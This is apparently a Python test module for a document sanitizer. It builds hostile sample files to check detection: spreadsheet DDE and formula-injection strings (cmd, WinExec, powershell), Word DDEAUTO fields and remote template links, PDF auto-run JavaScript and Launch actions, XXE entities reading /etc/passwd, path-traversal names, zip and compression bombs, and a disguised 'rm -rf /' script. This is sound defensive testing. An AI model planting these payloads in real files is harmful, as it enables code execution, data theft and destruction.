"""Files that run, fetch, hide, burst, are locked, are damaged or cannot be read."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from shelterbelt.exchange.tests.hostile import CLEANED, Hostile, hostile
from shelterbelt.exchange.tests.hostile.documents import (
    DOCX_TYPES,
    ODS,
    ODT,
    RELATIONS,
    XLSX_TYPES,
    docx,
    drawn,
    flat,
    opened,
    packed,
    pdf,
    xlsx,
)  # fmt: skip
from shelterbelt.exchange.tests.hostile.media import JPEG

FORMULAS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/"&amp;A1,"look")', 'WEBSERVICE("http://x.example")',
    'IMPORTXML("http://x.example","//a")', 'DDE("soffice","a","b")', "[1]Other!A1", "'[other.xlsx]A'!A1",
    'RTD("prog",,"a")', 'CALL("kernel32","WinExec","JC","calc")', 'EXEC("calc")', 'IMAGE("http://x.example/a.png")',
    'REGISTER.ID("a","b")', "msexcel|'a'!b", "MSHTA|'x'!y", "powershell|'-c'!A1",
)  # fmt: skip
CELLS = ("=1+1", "=SUM(A1:A9)", "+SUM(1)", "-SUM(1)", "@SUM(1)", '"=1+1"', " =1+1", "=A1&B1", "\uff1d1+1")
LINKS = ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "externalLinkPath", "aFChunk")
NAMES_OF_MACROS = ("vbaProject.bin", "vbaData.xml", "activeX/activeX1.xml", "macrosheets/sheet1.xml")
RUNS_IN_PDF = (
    "JavaScript",
    "Launch",
    "SubmitForm",
    "ImportData",
    "GoToR",
    "GoToE",
    "Rendition",
    "Movie",
    "Sound",
)
DOCTYPE = '<!DOCTYPE a [<!ENTITY b "{}">]>'


def running() -> Iterator[Hostile]:
    """Yield each."""
    yield from _formulas()
    yield from _office_macros()
    yield from _office_links()
    yield from _opendocument()
    yield from _pdfs()
    yield from _hiding()
    yield from _bursting()
    yield from _locked_and_damaged()
    yield from _letters()


def _formulas() -> Iterator[Hostile]:
    for formula in FORMULAS:
        yield hostile(f"formula {formula}", "a.xlsx", xlsx(sheet=("", "", f"<f>{formula}</f>")), "dde")
        yield hostile(
            f"named {formula}",
            "a.xlsx",
            xlsx(book=("", f'<definedName name="x">{formula}</definedName>')),
            "dde",
        )
        plain = formula.replace("&amp;", "&")
        if "[" not in plain:
            yield hostile(f"CSV ={plain}", "a.csv", f"a,b\n1,={plain}\n".encode(), "dde")
            said = plain.replace("&", "&amp;").replace('"', "&quot;")
            cell = f'<table:table-cell table:formula="of:={said}"/>'
            yield hostile(f"OpenDocument ={plain}", "a.ods", opened(ODS, cell), "dde")
    for cell in CELLS:
        yield hostile(f"table {cell}", "strict.csv", f"a,b\n1,{cell}\n".encode(), "formulas")
    yield hostile("a computed cell", "strict.xlsx", xlsx(sheet=("", "", "<f>1+1</f>")), "formulas")
    yield hostile(
        "a shared formula", "strict.xlsx", xlsx(sheet=("", "", '<f t="shared" si="0"/>')), "formulas"
    )
    yield hostile(
        "a computed cell",
        "strict.ods",
        opened(ODS, '<table:table-cell table:formula="of:=1+1"/>'),
        "formulas",
    )


def _office_macros() -> Iterator[Hostile]:
    for name in NAMES_OF_MACROS:
        yield hostile(f"Word with {name}", "a.docx", docx({f"word/{name}": "<a/>"}), "macros")
        yield hostile(f"Excel with {name}", "a.xlsx", xlsx({f"xl/{name}": "<a/>"}), "macros")
    for types in (DOCX_TYPES, XLSX_TYPES):
        enabled = types.replace("document.main+xml", "document.macroEnabled.main+xml").replace(
            "sheet.main", "sheet.macroEnabled.main"
        )
        yield hostile(f"macros by type {len(types)}", "a.docx", docx(types=enabled), "macros")
    split = "<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO x</w:instrText></w:r>"
    yield hostile("a Word field in pieces", "a.docx", docx(inside=split), "dde")
    for field in (
        "DDEAUTO c:\\\\windows cmd",
        "DDE excel a",
        'INCLUDETEXT "http://x"',
        'INCLUDEPICTURE "http://x/a.png"',
        "DATABASE \\d x",
    ):
        yield hostile(
            f"Word field {field}",
            "a.docx",
            docx(inside=f"<w:r><w:instrText> {field} </w:instrText></w:r>"),
            "dde",
        )


def _office_links() -> Iterator[Hostile]:
    for link in LINKS:
        said = f'<Relationship Id="r1" Type="http://x/{link}" Target="http://x.example/t.dotm" TargetMode="External"/>'
        yield hostile(
            f"Word that fetches {link}",
            "a.docx",
            docx({"word/_rels/document.xml.rels": RELATIONS.format(said)}),
            "links",
        )
    for target in (
        "file:///etc/passwd",
        "\\\\x.example\\share",
        "javascript:alert(1)",
        "ms-word:ofe|u|http://x",
    ):
        said = f'<Relationship Id="r1" Type="http://x/hyperlink" Target="{target}" TargetMode="External"/>'
        yield hostile(
            f"Word that links to {target}",
            "a.docx",
            docx({"word/_rels/document.xml.rels": RELATIONS.format(said)}),
            "links",
        )
    yield hostile(
        "Word with a piece of another format",
        "a.docx",
        docx(inside='<w:altChunk r:id="a" xmlns:r="r"/>'),
        "attached",
    )
    yield hostile(
        "Excel that uses another workbook",
        "a.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}),
        "links",
    )
    yield hostile(
        "Excel with all of a pivot's data", "a.xlsx", xlsx({"xl/pivotCache/records1.xml": "<a/>"}), "attached"
    )


def _opendocument() -> Iterator[Hostile]:
    yield hostile(
        "OpenDocument with macros",
        "a.odt",
        opened(ODT, more={"Basic/Standard/script-lb.xml": "<a/>"}),
        "macros",
    )
    listener = '<script:event-listener xmlns:script="s" script:language="ooo:script" xlink:href="x"/>'
    yield hostile("OpenDocument that listens", "a.odt", opened(ODT, listener), "macros")
    yield hostile(
        "OpenDocument with an object", "a.odt", opened(ODT, more={"Object 1/content.xml": "<a/>"}), "attached"
    )
    for inside in (
        '<draw:image xlink:href="http://x.example/a.png"/>',
        '<text:a xlink:href="file:///etc/passwd">x</text:a>',
    ):
        yield hostile(f"OpenDocument {inside}", "a.odt", opened(ODT, inside), "links")
    yield hostile(
        "OpenDocument by DDE", "a.ods", opened(ODS, '<office:dde-source office:dde-application="x"/>'), "dde"
    )


def _pdfs() -> Iterator[Hostile]:
    for kind in RUNS_IN_PDF:
        action = {"S": Name(f"/{kind}"), "F": String("x"), "JS": String("app.alert(1)")}
        yield hostile(
            f"PDF that runs {kind} when opened",
            "a.pdf",
            pdf(partial(_opens, action=action)),
            "active",
            "links",
        )
        yield hostile(
            f"PDF that runs {kind} when pressed",
            "a.pdf",
            pdf(partial(_pressed, action=action)),
            "active",
            "links",
        )
    for address in ("file:///etc/passwd", "javascript:alert(1)", "\\\\x.example\\share"):
        action = {"S": Name.URI, "URI": String(address)}
        yield hostile(f"PDF that links to {address}", "a.pdf", pdf(partial(_pressed, action=action)), "links")
    inline = (
        b"BT (Our policy) Tj ET q 40 0 0 40 0 0 cm BI /W 8 /H 8 /BPC 8 /CS /G ID " + JPEG[24:88] + b" EI Q"
    )
    yield hostile("PDF with a picture in its drawing", "a.pdf", pdf(text=inline), CLEANED)
    for kind in ("RichMedia", "3D", "Screen", "Movie", "Sound", "FileAttachment"):
        yield hostile(f"PDF with {kind}", "a.pdf", pdf(partial(_annotated, kind=kind)), "active", "attached")
    yield hostile("PDF with a form of another format", "a.pdf", pdf(_with_xfa), "active")


def _opens(made, _page, *, action) -> None:
    made.Root.OpenAction = Dictionary({f"/{k}": v for k, v in action.items()})


def _pressed(made, page, *, action) -> None:
    does = Dictionary({f"/{k}": v for k, v in action.items()})
    page.Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, A=does))])


def _annotated(made, page, *, kind) -> None:
    page.Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}")))])


def _with_xfa(made, _page) -> None:
    made.Root.AcroForm = Dictionary(XFA=made.make_indirect(Stream(made, b"<xdp/>")))


def _hiding() -> Iterator[Hostile]:
    for state in ("hidden", "veryHidden"):
        yield hostile(f"a {state} sheet", "a.xlsx", xlsx(book=(f' state="{state}"', "")), "hidden")
    yield hostile("a hidden column", "a.xlsx", xlsx(sheet=(' hidden="1"', "", "")), "hidden")
    yield hostile("a hidden row", "a.xlsx", xlsx(sheet=("", ' hidden="1"', "")), "hidden")
    for how in ('table:visibility="collapse"', 'table:visibility="filter"', 'table:display="false"'):
        yield hostile(f"OpenDocument {how}", "a.ods", opened(ODS, f"<table:table-row {how}/>"), "hidden")
    yield hostile("something before a workbook", "a.xlsx", b"MZ" + xlsx(), "program")
    yield hostile("a note behind a workbook", "a.xlsx", xlsx() + b"hidden", "behind", "broken", "archive")
    yield hostile("parts of one name", "a.docx", _twice(), "behind")
    for name in ("../../etc/passwd", "/etc/passwd", "word\\..\\x.xml", "C:/x.xml"):
        yield hostile(f"a part called {name}", "a.docx", docx({name: "<a/>"}), "behind")
    yield hostile("a PDF within a PDF's end", "a.pdf", pdf() + b"\n" + b"hidden" * 50, "behind")


def _twice() -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as out:
        out.writestr("word/Document.xml", "<a/>")
    return made.getvalue()


def _bursting() -> Iterator[Hostile]:
    nothing = b" " * 40_000_000
    for kind, made in (("docx", docx), ("xlsx", xlsx)):
        yield hostile(
            f"{kind} with 40 MB of spaces",
            f"a.{kind}",
            made({"word/a.xml": b"<a>" + nothing + b"</a>"}),
            "bomb",
        )
        yield hostile(
            f"{kind} that says less than it holds",
            f"a.{kind}",
            _lying(made({"x.xml": b"<a>" + nothing + b"</a>"})),
            "bomb",
            "broken",
        )
        many = {f"word/{n}.xml": "<a/>" for n in range(4000)}
        yield hostile(f"{kind} with thousands of parts", f"a.{kind}", made(many), "bomb")
    for depth in (3, 10):
        inside = "&b;" * 10
        entities = DOCTYPE.format("x" * 1000) + "<a>" + inside * depth + "</a>"
        yield hostile(f"entities {depth}", "a.docx", docx({"word/a.xml": entities}), "bomb")
        yield hostile(
            f"entities {depth}", "a.xlsx", xlsx({"xl/a.xml": '<?xml version="1.0"?>' + entities}), "bomb"
        )
        yield hostile(f"entities {depth}", "a.odt", opened(ODT, more={"styles.xml": entities}), "bomb")
    outside = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield hostile("an entity from outside", "a.docx", docx({"word/a.xml": outside}), "bomb")
    wide = '<?xml version="1.0" encoding="UTF-16"?>' + outside
    yield hostile(
        "an entity in other letters", "a.docx", docx({"word/a.xml": wide.encode("utf-16")}), "attached"
    )
    yield hostile(
        "letters said to be UTF-7",
        "a.docx",
        docx({"word/a.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
        "attached",
    )
    yield hostile("parts that lie over each other", "a.docx", _overlapping(), "bomb", "broken", "behind")
    yield hostile(
        "nested packed folders",
        "a.docx",
        packed({"a.zip": packed({"b.zip": packed({"c": b"x"})})}),
        "archive",
    )
    for times in (1, 2, 3):
        burst = pdf(partial(_burst, times=times))
        yield hostile(f"PDF stream packed {times} times", "a.pdf", burst, "bomb", "overrun", "broken")
    yield hostile("PDF of many pages", "a.pdf", pdf(_pages), "overrun")
    yield hostile("a line without end", "a.csv", b"a" * 3_000_000, "bomb")


def _burst(made, page, *, times) -> None:
    held = b" " * 60_000_000
    for _ in range(times):
        held = zlib.compress(held, 9)
    stream = made.make_indirect(Stream(made, held))
    stream.stream_dict.Filter = Array([Name.FlateDecode] * times)
    page.Resources.XObject.Fm1 = stream


def _pages(made, page) -> None:
    for _ in range(600):
        made.pages.append(made.pages[0])


def _lying(content: bytes) -> bytes:
    """Let the largest part say that it holds a thousand bytes."""
    said = struct.pack("<I", 40_000_007)
    return content.replace(said, struct.pack("<I", 1000))


def _overlapping() -> bytes:
    """Let two entries of the directory lead to one part."""
    content = docx({"word/a.xml": "<a>1</a>", "word/b.xml": "<a>2</a>"})
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        a, b = (package.getinfo(f"word/{name}.xml").header_offset for name in "ab")
    head, directory = content[: content.index(b"PK\1\2")], content[content.index(b"PK\1\2") :]
    return head + directory.replace(struct.pack("<I", b), struct.pack("<I", a))


def _locked_and_damaged() -> Iterator[Hostile]:
    for key in ("secret", ""):
        locked = pdf(encryption=pikepdf.Encryption(user=key, owner="owner"))
        yield hostile(f"PDF locked with {key or 'nothing'}", "a.pdf", locked, "encrypted")
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    for name in ("docx", "xlsx", "pdf", "csv"):
        yield hostile(
            f"locked Office file called {name}",
            f"a.{name}",
            old + "EncryptedPackage".encode("utf-16-le"),
            "encrypted",
        )
        yield hostile(f"old Office file called {name}", f"a.{name}", old, "old_office")
        yield hostile(f"program called {name}", f"a.{name}", b"MZ\x90\0" + b"\0" * 300, "program")
        yield hostile(f"script called {name}", f"a.{name}", b"#!/bin/sh\nrm -rf /\n", "program")
        yield hostile(f"nothing called {name}", f"a.{name}", b"", "empty")
        for packer in (b"Rar!\x1a\x07\0", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\0"):
            yield hostile(f"packed {packer!r} called {name}", f"a.{name}", packer + b"\0" * 100, "archive")
    whole = {"docx": docx(), "xlsx": xlsx(), "pdf": pdf(), "ods": opened(ODS), "odt": opened(ODT)}
    for name, content in whole.items():
        for part in (3, 2):
            yield hostile(
                f"{name} cut at 1/{part}",
                f"a.{name}",
                content[: len(content) // part],
                "broken",
                "behind",
                "archive",
            )
        other = "pdf" if name != "pdf" else "docx"
        yield hostile(f"{name} called {other}", f"a.{other}", content, "mismatch")
    flagged = bytearray(docx())
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        flagged[flagged.index(mark) + at] |= 1
    yield hostile("Word locked the way of packed folders", "a.docx", bytes(flagged), "encrypted", "broken")
    manifest = "<m:manifest xmlns:m='m'><manifest:encryption-data xmlns:manifest='x'/></m:manifest>"
    yield hostile(
        "OpenDocument that is locked",
        "a.odt",
        opened(ODT, more={"META-INF/documentsignatures.xml": manifest}),
        "encrypted",
    )


def _letters() -> Iterator[Hostile]:
    for name in ("csv", "txt"):
        for letters in ("utf-16", "utf-16-le", "utf-32"):
            yield hostile(
                f"{name} in {letters}", f"a.{name}", ("name,age\nAmber,14\n" * 20).encode(letters), "encoding"
            )
        yield hostile(f"{name} with a null", f"a.{name}", b"name,age\nAm\0ber,14\n", "encoding")
        yield hostile(f"{name} with bells", f"a.{name}", b"name,age\n\x07\x07,14\n", "encoding")
        yield hostile(f"{name} in no letters", f"a.{name}", b"name\n\x81\x8d\x8f\x90\x9d\xff", "encoding")
        for held in (
            b"<!DOCTYPE html><script>1</script>",
            b"<html><body>",
            b"<?xml version='1.0'?><a/>",
            b"{\\rtf1 x}",
            b"%!PS-Adobe",
        ):
            yield hostile(f"{held[:12]!r} called {name}", f"a.{name}", held, "kind")
        address = b"name\n<img src=data:image/png;base64,iVBORw0KGgoAAAA>\n"
        yield hostile(f"{name} with a picture as an address", f"a.{name}", address, "picture")
        letters = b"name\n" + b"/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkS" + b"\n"
        yield hostile(f"{name} with a picture in letters", f"a.{name}", letters, "picture")
    for name in ("html", "svg", "exe", "js", "docm", "xlsm", "zip", "rtf", "eml", "doc", "pptx", ""):
        yield hostile(
            f"text called {name or 'nothing'}", f"a.{name}" if name else "a", b"Some words.\n", "kind"
        )
    with_picture = pdf(lambda made, page: drawn(made, page, flat(JPEG), "/FlateDecode"))
    yield hostile("PDF with a picture packed again", "a.pdf", with_picture, CLEANED)
